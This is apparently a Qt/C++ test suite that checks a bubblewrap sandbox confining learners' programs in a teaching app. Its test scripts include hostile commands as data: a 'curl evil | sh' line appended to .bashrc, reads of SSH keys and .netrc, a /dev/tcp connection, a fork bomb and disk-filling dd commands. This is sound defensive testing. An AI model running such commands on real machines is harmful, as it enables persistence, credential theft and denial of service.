// docs/reliability.md rows 26-30: what a learner's or a pack's program must not
// be able to do on the student's computer, run for real through ProcessRunner
// in the bubblewrap sandbox. Each program is a small shell script; each test
// checks that nothing of it is left afterwards.

#include "core/run/processrunner.h"
#include "core/run/procscan.h"
#include "core/run/sandbox.h"
#include "helpers/looplatency.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QRandomGenerator>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

#include <csignal>
#include <dirent.h>

using namespace torchlab;

namespace {

// Processes whose command line holds `token` (a word no other program uses).
QList<pid_t> processesWith(const QByteArray &token)
{
    QList<pid_t> found;
    for (const ProcScan::ProcStat &proc : ProcScan::allProcesses()) {
        QFile cmdline(QStringLiteral("/proc/%1/cmdline").arg(proc.pid));
        if (proc.isZombie() || !cmdline.open(QIODevice::ReadOnly))
            continue;
        if (cmdline.read(4096).contains(token))
            found << proc.pid;
    }
    return found;
}

QByteArray uniqueToken(const char *what)
{
    return QByteArray(what) + '-' + QByteArray::number(QRandomGenerator::global()->generate());
}

} // namespace

class tst_Sandbox : public QObject
{
    Q_OBJECT

    // Under the build tree, not /tmp: inside the sandbox /tmp is private.
    QTemporaryDir m_root{QStringLiteral(TORCHLAB_TEST_BINARY_DIR "/sandbox-XXXXXX")};
    QString m_home; // a home folder with secrets and a .bashrc, never writable
    QString m_job;  // the job folder: the one place a program may write

    ProcessSpec script(const QString &text, const QStringList &args = {}) const
    {
        ProcessSpec s;
        s.program = QStringLiteral("/bin/sh");
        s.arguments = QStringList{QStringLiteral("-c"), text, QStringLiteral("sandboxed")} + args;
        s.workingDirectory = m_job;
        s.environment = QProcessEnvironment::systemEnvironment();
        s.environment.insert(QStringLiteral("HOME"), m_home);
        s.limits.wallMs = 20'000;
        s.sandbox.untrusted = true;
        s.sandbox.mode = SandboxMode::Require;
        s.sandbox.writable = {m_job};
        return s;
    }

    static RunResult run(const ProcessSpec &spec, int timeoutMs = 30'000)
    {
        ProcessRunner runner;
        QSignalSpy done(&runner, &ProcessRunner::done);
        runner.start(spec);
        if (!done.wait(timeoutMs)) {
            qWarning("the run did not finish within %d ms", timeoutMs);
            return {};
        }
        return done.first().first().value<RunResult>();
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_root.isValid());
        m_home = m_root.filePath(QStringLiteral("home"));
        m_job = m_root.filePath(QStringLiteral("job"));
        QVERIFY(QDir().mkpath(m_home + QStringLiteral("/.ssh")));
        QVERIFY(QDir().mkpath(m_job));
        QFile key(m_home + QStringLiteral("/.ssh/id_ed25519"));
        QVERIFY(key.open(QIODevice::WriteOnly));
        key.write("PRIVATE-KEY-SECRET\n");
        key.close();
        QFile netrc(m_home + QStringLiteral("/.netrc"));
        QVERIFY(netrc.open(QIODevice::WriteOnly));
        netrc.write("machine example.org password NETRC-SECRET\n");
        netrc.close();
        QFile bashrc(m_home + QStringLiteral("/.bashrc"));
        QVERIFY(bashrc.open(QIODevice::WriteOnly));
        bashrc.write("# the learner's own\n");
        bashrc.close();
        // CI installs bubblewrap: a computer that cannot make the sandbox
        // fails here, it does not skip.
        const Sandbox::Status status = Sandbox::status();
        QVERIFY2(status.available, qPrintable(status.reason));
        qInfo("sandbox: %s (%s)", qPrintable(status.bwrap), qPrintable(status.version));
    }

    void argumentsIsolate()
    {
        SandboxPolicy policy;
        policy.untrusted = true;
        policy.writable = {m_job};
        const QStringList a =
            Sandbox::arguments(policy, QStringLiteral("/bin/true"), {}, m_job, m_home);
        for (const char *flag : {"--die-with-parent", "--new-session", "--unshare-all"})
            QVERIFY2(a.contains(QLatin1String(flag)), flag);
        QVERIFY(!a.contains(QStringLiteral("--share-net")));
        QVERIFY(a.join(u' ').contains(QStringLiteral("--ro-bind / /")));
        QVERIFY(a.join(u' ').contains(
            QStringLiteral("--bind %1 %1").arg(QFileInfo(m_job).canonicalFilePath())));
        QVERIFY(a.join(u' ').contains(QStringLiteral("--tmpfs %1/.ssh").arg(m_home)));
        QVERIFY(a.join(u' ').contains(QStringLiteral("/dev/null %1/.netrc").arg(m_home)));
        QCOMPARE(a.last(), QStringLiteral("/bin/true"));

        policy.network = SandboxPolicy::Network::Host;
        QVERIFY(Sandbox::arguments(policy, QStringLiteral("/bin/true"), {}, m_job, m_home)
                    .contains(QStringLiteral("--share-net")));
    }

    void environmentIsAllowListed()
    {
        QProcessEnvironment env;
        env.insert(QStringLiteral("PATH"), QStringLiteral("/usr/bin:/bin"));
        env.insert(QStringLiteral("LANG"), QStringLiteral("zh_CN.UTF-8"));
        env.insert(QStringLiteral("LC_ALL"), QStringLiteral("C.UTF-8"));
        env.insert(QStringLiteral("OMP_NUM_THREADS"), QStringLiteral("2"));
        env.insert(QStringLiteral("TORCHLAB_QUICK"), QStringLiteral("1"));
        env.insert(QStringLiteral("CUDA_VISIBLE_DEVICES"), QStringLiteral("0"));
        env.insert(QStringLiteral("SSH_AUTH_SOCK"), QStringLiteral("/tmp/ssh-agent.sock"));
        env.insert(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"), QStringLiteral("unix:path=/run/b"));
        env.insert(QStringLiteral("GITHUB_TOKEN"), QStringLiteral("ghp_secret"));
        env.insert(QStringLiteral("AWS_SECRET_ACCESS_KEY"), QStringLiteral("secret"));
        env.insert(QStringLiteral("DISPLAY"), QStringLiteral(":0"));
        const QProcessEnvironment out = Sandbox::environment(env);
        for (const char *kept : {"PATH", "LANG", "LC_ALL", "OMP_NUM_THREADS", "TORCHLAB_QUICK",
                                 "CUDA_VISIBLE_DEVICES"})
            QVERIFY2(out.contains(QLatin1String(kept)), kept);
        for (const char *dropped : {"SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "GITHUB_TOKEN",
                                    "AWS_SECRET_ACCESS_KEY", "DISPLAY"})
            QVERIFY2(!out.contains(QLatin1String(dropped)), dropped);
    }

    // Row 26: the home folder is read-only; the job folder is not.
    void homeIsReadOnly()
    {
        const QByteArray before = [this] {
            QFile f(m_home + QStringLiteral("/.bashrc"));
            return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
        }();
        const RunResult r = run(script(
            QStringLiteral("echo 'curl evil | sh' >> \"$HOME/.bashrc\" && echo wrote-bashrc; "
                           "mkdir -p \"$HOME/.config/autostart\" && echo wrote-autostart; "
                           "echo result > out.txt && echo wrote-job")));
        QVERIFY2(r.sandboxed, qPrintable(r.sandboxNote));
        QVERIFY2(!r.stdoutText.contains("wrote-bashrc"), r.stdoutText.constData());
        QVERIFY(!r.stdoutText.contains("wrote-autostart"));
        QVERIFY2(r.stderrText.contains("Read-only file system"), r.stderrText.constData());
        QVERIFY2(r.stdoutText.contains("wrote-job"), r.stderrText.constData());
        QFile f(m_home + QStringLiteral("/.bashrc"));
        QVERIFY(f.open(QIODevice::ReadOnly));
        QCOMPARE(f.readAll(), before);
        QVERIFY(!QFileInfo::exists(m_home + QStringLiteral("/.config/autostart")));
        QVERIFY(QFileInfo::exists(m_job + QStringLiteral("/out.txt")));
    }

    // Secrets in files are hidden, not only read-only.
    void secretFilesAreHidden()
    {
        const RunResult r = run(script(QStringLiteral(
            "cat \"$HOME/.ssh/id_ed25519\" \"$HOME/.netrc\"; ls -a \"$HOME/.ssh\"")));
        QVERIFY(r.sandboxed);
        QVERIFY2(!r.stdoutText.contains("SECRET"), r.stdoutText.constData());
        QVERIFY(!r.stdoutText.contains("id_ed25519"));
    }

    // Row 27: session secrets never reach the program.
    void environmentSecretsAreAbsent()
    {
        ProcessSpec s = script(QStringLiteral(
            "echo "
            "\"[$SSH_AUTH_SOCK][$DBUS_SESSION_BUS_ADDRESS][$GITHUB_TOKEN][$TORCHLAB_QUICK]\""));
        s.environment.insert(QStringLiteral("SSH_AUTH_SOCK"), QStringLiteral("/tmp/agent.sock"));
        s.environment.insert(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"),
                             QStringLiteral("unix:path=/run/user/1000/bus"));
        s.environment.insert(QStringLiteral("GITHUB_TOKEN"), QStringLiteral("ghp_secret"));
        s.environment.insert(QStringLiteral("TORCHLAB_QUICK"), QStringLiteral("1"));
        const RunResult r = run(s);
        QCOMPARE(r.outcome, RunResult::Outcome::Ok);
        QCOMPARE(r.stdoutText.trimmed(), QByteArray("[][][][1]"));
    }

    // Row 28: no network unless the policy shares it. The same program that
    // is refused connects once the network is shared (the test can fail).
    void networkIsCutOff()
    {
        QTcpServer server;
        QVERIFY(server.listen(QHostAddress::LocalHost));
        const QString connect =
            QStringLiteral("if (exec 3<>/dev/tcp/127.0.0.1/%1) 2>/dev/null; then echo connected; "
                           "else echo refused; fi")
                .arg(server.serverPort());
        ProcessSpec s = script(QStringLiteral("exec bash -c '%1'").arg(connect));
        RunResult r = run(s);
        QVERIFY(r.sandboxed);
        QCOMPARE(r.stdoutText.trimmed(), QByteArray("refused"));
        QVERIFY(!server.hasPendingConnections());

        s.sandbox.network = SandboxPolicy::Network::Loopback;
        r = run(s);
        QCOMPARE(r.stdoutText.trimmed(), QByteArray("connected"));
    }

    // Row 29: /dev/shm and /tmp are private and bounded; nothing is left.
    void sharedMemoryIsBounded()
    {
        const QByteArray token = uniqueToken("tl-fill");
        ProcessSpec s = script(QStringLiteral("dd if=/dev/zero of=/dev/shm/$1 bs=1M count=2048; "
                                              "dd if=/dev/zero of=/tmp/$1 bs=1M count=2048; "
                                              "ls -s /dev/shm/$1 /tmp/$1"),
                               {QString::fromLatin1(token)});
        s.sandbox.tmpBytes = 64LL << 20;
        const RunResult r = run(s, 60'000);
        QVERIFY(r.sandboxed);
        const QByteArray out = r.stdoutText + r.stderrText;
        QVERIFY2(out.count("No space left on device") >= 2, out.constData());
        QVERIFY(!QFileInfo::exists(QStringLiteral("/dev/shm/") + QString::fromLatin1(token)));
        QVERIFY(!QFileInfo::exists(QStringLiteral("/tmp/") + QString::fromLatin1(token)));
    }

    // Row 30: a fork bomb gets a verdict, the event loop keeps running, and
    // not one of its processes is left.
    void forkBombIsStopped()
    {
        const QByteArray token = uniqueToken("tl-bomb");
        ProcessSpec s = script(QStringLiteral("f() { f & f & wait; }; f"));
        s.arguments.last() = QString::fromLatin1(token); // $0 of every copy: findable
        s.limits.runProcesses = 64;
        s.limits.rssPollMs = 20;
        s.limits.memoryBytes = 0;
        s.limits.wallMs = 30'000;

        testing::LoopLatencyProbe probe;
        const RunResult r = run(s);
        const qint64 worstLatencyMs = probe.stop();
        qInfo("fork bomb: peak %d processes, stopped after %lld ms, worst event-loop latency "
              "%lld ms",
              r.peakProcesses, r.wallMs, worstLatencyMs);
        QVERIFY(r.sandboxed);
        QCOMPARE(r.outcome, RunResult::Outcome::TooManyProcesses);
        QVERIFY2(r.summary.contains(QLatin1String("too many processes")), qPrintable(r.summary));
        QVERIFY(r.peakProcesses > 64);
        QTRY_VERIFY_WITH_TIMEOUT(processesWith(token).isEmpty(), 5000);
    }

    // Row 30: a process that leaves the session and clears its environment
    // (no marker to find it by) still dies with the run. Outside the sandbox
    // the same program leaves it behind, which shows what the sandbox adds.
    void setsidEscapeeIsKilled()
    {
        const QByteArray seconds =
            QByteArray::number(3000 + QRandomGenerator::global()->bounded(5000));
        const QByteArray token = QByteArray("sleep", 5) + '\0' + seconds;
        const QString text =
            QStringLiteral(
                "setsid env -i /bin/sleep %1 >/dev/null 2>&1 < /dev/null & sleep 0.3; echo started")
                .arg(QString::fromLatin1(seconds));
        RunResult r = run(script(text));
        QVERIFY(r.sandboxed);
        QCOMPARE(r.stdoutText.trimmed(), QByteArray("started"));
        QTRY_VERIFY_WITH_TIMEOUT(processesWith(token).isEmpty(), 5000);

        ProcessSpec off = script(text);
        off.sandbox.mode = SandboxMode::Off;
        r = run(off);
        QVERIFY(!r.sandboxed);
        QVERIFY(!r.sandboxNote.isEmpty());
        const QList<pid_t> left = processesWith(token);
        for (pid_t pid : left)
            ::kill(pid, SIGKILL);
        QVERIFY2(!left.isEmpty(), "without the sandbox the escapee was expected to survive");
    }

    // bwrap reports a program killed by signal N as 128 + N: still a crash.
    void signalsStayCrashes()
    {
        const RunResult r = run(script(QStringLiteral("kill -SEGV $$")));
        QVERIFY(r.sandboxed);
        QCOMPARE(r.outcome, RunResult::Outcome::Crashed);
        QCOMPARE(r.signalName, QStringLiteral("SIGSEGV"));
        const RunResult code = run(script(QStringLiteral("exit 3")));
        QCOMPARE(code.outcome, RunResult::Outcome::ExitCode);
        QCOMPARE(code.exitCode, 3);
    }
};

QTEST_GUILESS_MAIN(tst_Sandbox)
#include "tst_sandbox.moc"
